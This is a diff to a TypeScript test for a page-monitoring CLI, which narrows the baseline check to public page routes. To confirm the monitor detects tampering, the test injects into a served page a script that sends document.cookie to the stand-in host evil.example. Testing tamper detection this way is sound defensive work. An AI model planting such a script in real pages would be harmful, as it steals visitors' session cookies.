@@ -14,7 +14,8 @@ import { WATCHED_HEADERS, normaliseNonce, snapshotPage, type PageSnapshot } from
 import { DEFAULT_CSP_REPORT_QUOTA } from '../../server/src/store/csp-report-store';
 import { createTestDatabase, describeEachEngine } from '../../server/test/helpers/databases';
 import { FIXTURE_CLIENT_DIR, startTestApp, type TestApp } from '../../server/test/helpers/test-app';
-import { PAGE_FILES, PAGE_ROUTES } from '../../server/src/routes/pages';
+import { PAGE_FILES } from '../../server/src/routes/pages';
+import { PUBLIC_PAGE_ROUTES } from '../../common/pages';
 import { ABSENT_HEADERS, EVERY_RESPONSE_HEADERS, HTML_ONLY_HEADERS } from '../../server/src/security/headers';
 import { REPO_ROOT, tsxNodeArgs } from '../../test-support/tsx-node';
 
@@ -293,11 +294,12 @@ describe('npm run monitor, by default', () => {
     const run = await monitorCli(app, []);
     expect((await run('--approve')).code).toBe(0);
     const baseline = JSON.parse(await readFile(path.join(clientDir, 'baseline.json'), 'utf8')) as Record<string, PageSnapshot>;
-    expect(Object.keys(baseline).sort()).toEqual([...PAGE_ROUTES].sort());
+    expect(Object.keys(baseline).sort()).toEqual([...PUBLIC_PAGE_ROUTES].sort());
     expect((await run()).code).toBe(0);
 
-    // The last page an app outside lab mode serves (the lab's panel is served in lab mode only).
-    const last = PAGE_FILES.filter((file) => !file.labOnly).at(-1);
+    // The last page an app outside lab mode serves to anyone (the lab's panel is served in lab mode
+    // only, the seller area with a session only).
+    const last = PAGE_FILES.filter((file) => !file.labOnly && file.access === 'public').at(-1);
     if (!last) throw new Error('the server lists no page');
     await inject(last.file, '<script>new Image().src = "https://evil.example/?" + document.cookie</script>');
     // The server reads pages at startup: the tampered build shows in a new app on the same folder
